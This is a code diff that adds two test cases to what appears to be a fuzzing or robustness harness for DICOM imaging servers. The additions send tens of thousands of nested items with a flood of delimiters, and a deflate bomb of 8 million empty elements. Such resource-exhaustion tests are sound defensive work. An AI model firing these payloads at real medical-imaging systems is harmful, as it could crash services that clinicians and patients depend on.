@@ -397,6 +397,34 @@ def deep_nesting(target: Target, rng: random.Random) -> str:
         return answer(sock)
 
 
+def delimiters_at_depth(target: Target, rng: random.Random) -> str:
+    """60,000 items open at once, and a million delimiters and bare items that close, or do not close, one of them."""
+    uid, data = encoded()
+    opened, item_end, sequence_end = (
+        struct.pack("<HHL", 0xFFFE, number, length)
+        for number, length in ((0xE000, 2**32 - 1), (0xE00D, 0), (0xE0DD, 0))
+    )
+    seen = set()
+    for closing in (item_end, sequence_end, opened + item_end, opened + sequence_end):
+        with target.associated() as sock:
+            sock.sendall(store(opened * 60_000 + closing * (2_000_000 // len(closing)) + data, uid))
+            seen.add(answer(sock, 30))
+    return ", ".join(sorted(seen))
+
+
+def deflated_elements(target: Target, rng: random.Random) -> str:
+    """A data set of 8 million empty items, deflated to some 100 kB."""
+    uid, data = encoded()
+    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
+    bomb = compressor.compress(data)
+    for _ in range(64):
+        bomb += compressor.compress(struct.pack("<HHL", 0xFFFE, 0xE000, 0) * 2**17)
+    bomb += compressor.flush()
+    with target.associated([(CTImageStorage, DeflatedExplicitVRLittleEndian)]) as sock:
+        sock.sendall(store(bomb, uid))
+        return answer(sock, 30)
+
+
 def odd_uids(target: Target, rng: random.Random) -> str:
     """UIDs like paths, of several values, far too long, with NUL and SQL in them."""
     seen = set()
@@ -487,7 +515,9 @@ PLAIN: list[tuple[str, Attack]] = [
     ("100,000 contexts or items", countless_items),
     ("odd AE titles", odd_titles),
     ("deflate bomb", deflate_bomb),
+    ("deflated, of 8 million elements", deflated_elements),
     ("sequences 40,000 deep", deep_nesting),
+    ("delimiters, 60,000 items deep", delimiters_at_depth),
     ("odd UIDs", odd_uids),
     ("hostile text, truncated data sets", hostile_text),
     ("random and mutated bytes", random_bytes),
